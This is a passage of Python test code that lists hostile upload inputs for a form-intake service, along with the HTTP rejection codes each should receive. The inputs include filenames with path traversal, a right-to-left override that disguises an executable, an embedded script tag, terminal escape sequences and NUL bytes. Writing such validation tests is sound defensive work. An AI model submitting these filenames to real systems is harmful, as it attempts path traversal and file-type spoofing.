            ("c1-control", "Miet\u0085vertrag.pdf"),
            ("pipe", "a|b.pdf"),
            ("angle-brackets", "<script>.pdf"),
            ("too-long", "a" * 300 + ".pdf"),
        ]
    ],
    *[
        # Control characters in the metadata are refused by its JSON check already.
        Hostile(
            f"multipart-metadata-filename-{label}",
            "multipart",
            multipart(with_filename(name)),
            422,
            "json.character",
        )
        for label, name in [("escape-sequence", "\x1b[31mrot.pdf"), ("nul", "a\x00.pdf")]
    ],
    *[
        Hostile(
            f"multipart-part-filename-{label}",
            "multipart",
            raw(part_header_filename(name)),
            400,
            "multipart.bad_filename",
        )
        for label, name in [
            ("escape-sequence", b"\x1b[31mrot.pdf"),
            ("backslash-traversal", b"..\\..\\boot.ini"),
            ("right-to-left-override", "Miet\u202efdp.exe".encode()),
        ]
    ],
]

CORPUS: list[Hostile] = XML_CASES + JSON_CASES + MULTIPART_CASES


def counts() -> dict[str, int]:
    found: dict[str, int] = {}
    for case in CORPUS:
        found[case.media] = found.get(case.media, 0) + 1
    return found


def permissive_xsd() -> bytes:
    """An XSD that would accept any content for the Hundesteuer namespace."""
    schema = etree.Element(
        "{http://www.w3.org/2001/XMLSchema}schema",
        targetNamespace=DOG_FORM.namespace,
        nsmap={"xs": "http://www.w3.org/2001/XMLSchema"},
    )
    etree.SubElement(
        schema, "{http://www.w3.org/2001/XMLSchema}element", name=DOG_FORM.root, type="xs:anyType"
    )
    return etree.tostring(schema)
